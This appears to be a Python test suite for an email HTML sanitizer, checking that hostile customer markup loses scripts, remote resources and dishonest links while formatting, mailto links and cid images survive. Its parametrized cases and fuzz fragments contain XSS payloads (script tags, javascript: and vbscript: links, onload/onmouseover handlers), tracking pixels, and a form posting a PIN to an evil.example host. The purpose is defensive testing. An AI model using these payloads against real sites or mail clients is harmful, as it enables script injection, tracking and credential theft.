"""Sanitizing hostile customer HTML: no remote resources, no scripts, honest links."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workstation.domain.html import plain_text_to_html, sanitize_html

ALLOWED_URL_PREFIXES = {"href": ("http:", "https:", "mailto:"), "src": ("cid:",)}


class _Inventory(HTMLParser):
    """Every tag and attribute that a renderer would see in the output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag


def inventory(markup: str) -> _Inventory:
    parser = _Inventory()
    parser.feed(markup)
    parser.close()
    return parser


def assert_safe(markup: str) -> None:
    found = inventory(markup)
    forbidden_tags = {"script", "style", "link", "iframe", "svg", "object", "form", "embed"}
    assert not forbidden_tags & set(found.tags), markup
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), markup
        assert name not in {"style", "background", "srcset", "action", "formaction"}, markup
        if name in ALLOWED_URL_PREFIXES:
            assert value.lower().startswith(ALLOWED_URL_PREFIXES[name]), markup
        if name == "src":
            assert tag == "img", markup


@pytest.mark.parametrize(
    ("hostile", "must_not_contain"),
    [
        ('<img src="https://tracker.example/pixel.gif?u=42" width="1" height="1">', "tracker"),
        ('<img src="//tracker.example/p.gif">', "tracker"),
        ('<img src="data:image/png;base64,iVBORw0KGgo=">', "data:"),
        ('<img srcset="https://tracker.example/a.png 2x" src="cid:logo">', "tracker"),
        ('<p style="background: url(https://tracker.example/bg.png)">Hallo</p>', "url("),
        ("<style>body { background: url(https://tracker.example/s.png) }</style>Hi", "url("),
        ('<link rel="stylesheet" href="https://tracker.example/mail.css">', "tracker"),
        (
            '<table background="https://tracker.example/t.png"><tr><td>x</td></tr></table>',
            "tracker",
        ),
        ('<svg><image href="https://tracker.example/i.svg"/></svg>', "tracker"),
        ("<svg onload=alert(1)><circle r=4 /></svg>", "alert"),
        ("<script>alert('x')</script>Guten Tag", "alert"),
        ('<a href="javascript:alert(1)">Rechnung</a>', "javascript"),
        ('<a href=" JaVaScRiPt:alert(1)">Rechnung</a>', "alert"),
        ('<a href="vbscript:msgbox(1)">x</a>', "vbscript"),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "data:"),
        ('<iframe src="https://evil.example/"></iframe>', "evil"),
        ('<object data="https://evil.example/x.swf"></object>', "evil"),
        ('<embed src="https://evil.example/x.swf">', "evil"),
        ('<form action="https://evil.example/steal"><input name="pin"></form>', "evil"),
        ('<base href="https://evil.example/">', "evil"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "evil"),
        ('<video poster="https://tracker.example/v.png"></video>', "tracker"),
        ('<div onmouseover="steal()">Text</div>', "steal"),
        ("<!-- [if mso]><img src='https://tracker.example/mso.png'><![endif] -->", "tracker"),
        ('<a href="/relative/path">x</a>', "/relative"),
    ],
)
def test_hostile_markup_loses_everything_that_could_load_or_run(
    hostile: str, must_not_contain: str
) -> None:
    clean = sanitize_html(hostile)

    assert must_not_contain.lower() not in clean.lower()
    assert_safe(clean)


def test_formatting_survives() -> None:
    markup = (
        "<h2>Rechnung</h2><p><b>Fett</b>, <i>kursiv</i> und <u>unterstrichen</u></p>"
        "<ul><li>eins</li><li>zwei</li></ul><blockquote>zitiert</blockquote>"
        '<table><tr><td colspan="2">Zelle</td></tr></table><pre>code</pre>'
    )

    clean = sanitize_html(markup)

    for kept in ("<h2>", "<b>", "<i>", "<u>", "<ul>", "<li>", "<blockquote>", "<pre>"):
        assert kept in clean
    assert 'colspan="2"' in clean


def test_links_keep_their_real_target_and_cannot_reach_the_opener() -> None:
    clean = sanitize_html(
        '<a href="https://bank.example/login?x=1&amp;y=2" target="_blank">Ihre Bank</a>'
        '<a href="mailto:service@example.de">Mail</a>'
    )

    found = inventory(clean)
    hrefs = [value for _tag, name, value in found.attributes if name == "href"]
    rels = [value for _tag, name, value in found.attributes if name == "rel"]
    assert hrefs == ["https://bank.example/login?x=1&y=2", "mailto:service@example.de"]
    assert rels and all("noopener" in rel for rel in rels)
    assert "target" not in clean


def test_inline_images_keep_their_content_id() -> None:
    clean = sanitize_html('<img src="cid:logo@mail.example" alt="Logo" onerror="x()">')

    assert inventory(clean).attributes == [
        ("img", "src", "cid:logo@mail.example"),
        ("img", "alt", "Logo"),
    ]


hostile_fragments = st.sampled_from(
    [
        "<img src='https://t.example/p.gif'>",
        "<img src='cid:part'>",
        "<a href='javascript:x()'>",
        "<a href='https://ok.example'>",
        "<style>*{background:url(https://t.example)}</style>",
        "<p style='background:url(https://t.example)'>",
        "<svg><use href='https://t.example/#x'/></svg>",
        "<link rel=stylesheet href=https://t.example/c.css>",
        "<script>",
        "</script>",
        "<iframe src=https://t.example>",
        "<div onclick='x()'>",
        "<!--",
        "-->",
        "<![CDATA[",
        "<",
        ">",
        "'",
        '"',
        "=",
        "&amp;",
        "<b>",
        "</b>",
        "Jürgen",
        " ",
    ]
)


@settings(max_examples=300, deadline=None)
@given(parts=st.lists(hostile_fragments | st.text(max_size=8), max_size=25))
def test_any_mix_of_hostile_fragments_comes_out_safe(parts: list[str]) -> None:
    assert_safe(sanitize_html("".join(parts)))


@settings(max_examples=100, deadline=None)
@given(markup=st.text(max_size=300))
def test_sanitizing_is_stable(markup: str) -> None:
    once = sanitize_html(markup)

    assert sanitize_html(once) == once


def test_plain_text_is_escaped_and_keeps_its_lines() -> None:
    html = plain_text_to_html('Hallo <b>"Petra"</b> & Co\r\nZeile 2\rZeile 3\nZeile 4')

    assert html == (
        "Hallo &lt;b&gt;&quot;Petra&quot;&lt;/b&gt; &amp; Co<br>Zeile 2<br>Zeile 3<br>Zeile 4"
    )
    assert inventory(html).tags == ["br", "br", "br"]
